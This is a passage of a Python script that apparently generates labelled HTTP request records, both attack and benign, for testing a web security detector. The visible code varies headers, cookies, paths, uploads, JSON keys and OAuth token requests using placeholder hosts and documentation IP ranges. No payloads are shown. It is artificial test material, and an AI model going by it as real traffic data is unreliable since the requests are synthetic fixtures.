                req = {"method": "POST", "uri": "/me/settings", "body": encode_form(fields, None),
                       "headers": {**browser(n), "Content-Type": "application/x-www-form-urlencoded",
                                   "Origin": "https://app.example.com"}}
            elif place == "json" and j == 2:
                req = json_req(n - (n % 10) + 8, value, None)   # a Slack bot command: the replayer signs it
            else:
                req = build(place, value, n - (n % 10) + (i % 7) if place == "json" else n)
            yield rec("profile", place, req)
    for seg in PATHS:
        yield rec("path", "path", get_req(("/api/users/" if n % 3 else "/api/") + url_enc(seg, safe=PATH_SAFE + "%~"),
                                          browser(n, accept="application/json, text/plain, */*", mode="cors")))
    for ua in UA_VALUES:
        yield rec("header", "header:User-Agent", header_req(n, "User-Agent", ua))
    for ref in REFERERS:
        yield rec("header", "header:Referer", header_req(n, "Referer", ref))
    for i in range(12):
        xff = (f"203.0.113.{10 + i}", f"198.51.100.{i + 1}, 10.0.0.{i + 2}", f"2001:db8::{i + 1:x}")[i % 3]
        yield rec("header", "header:X-Forwarded-For", header_req(n, "X-Forwarded-For", xff))
        ver = ("2024-06-01", "v2", "2.1.0", "1")[i % 4]
        yield rec("header", "header:X-Api-Version", header_req(n, "X-Api-Version", ver))
        custom = (f"req-{hexs(i, 'trace', 8)}", "mobile-ios", "batch-import; dry-run", "tenant=acme")[i % 4]
        yield rec("header", "header:X-Custom", header_req(n, "X-Custom", custom))
    for i, value in enumerate(COOKIE_VALUES):
        name = COOKIE_NAMES[i % len(COOKIE_NAMES)]
        yield rec("cookie", "cookie", get_req(cookie_route(n), browser(n, cookie=f"{name}={value}")))
    for name in COOKIE_NAME_VALUES:
        yield rec("cookie", "cookie-name", get_req(cookie_route(n), browser(n, cookie=f"{name}={token(n, 'c', 9)}")))
    for name in QUERY_NAME_VALUES:
        yield rec("qname", "query-name", get_req(f"/api/users?{url_enc(name, safe='[]$@')}=active&page=1",
                                                 browser(n, accept="application/json, text/plain, */*",
                                                         mode="cors")))
    for key in JSON_KEY_VALUES:
        yield rec("jkey", "json-key", json_key_req(n, key, None))
    for name in FILENAMES:
        yield rec("upload", "multipart-filename", multipart_req(n, "multipart-filename", name))
    for content in FILE_CONTENTS:
        yield rec("upload", "multipart-file", multipart_req(n, "multipart-file", content))
    for i, name in enumerate(["display_name", "bio", "notify_on_mention", "newsletter", "select_all", "order",
                              "alerts[email]", "alerts[slack]", "theme", "lang"]):
        yield rec("upload", "multipart-name", multipart_req(n + i, "multipart-name", name))
    for text in RAW_TEXTS:
        yield rec("raw", "raw-body", raw_req(n, text, None))
    for i, state in enumerate(OAUTH_STATES):
        fields = [("grant_type", "authorization_code"), ("code", token(n, "code", 16)),
                  ("redirect_uri", "https://app.example.com/callback"), ("client_id", "web-app"),
                  ("state", state), ("scope", OAUTH_SCOPES[i % len(OAUTH_SCOPES)])]
        yield rec("oauth", "form", {"method": "POST", "uri": "/oauth/token", "body": encode_form(fields, None),
                                    "headers": {"User-Agent": CLIENT_UAS[i % len(CLIENT_UAS)],
                                                "Accept": "application/json",
                                                "Content-Type": "application/x-www-form-urlencoded"}})


if __name__ == "__main__":
    print_records(attacks(), benign())
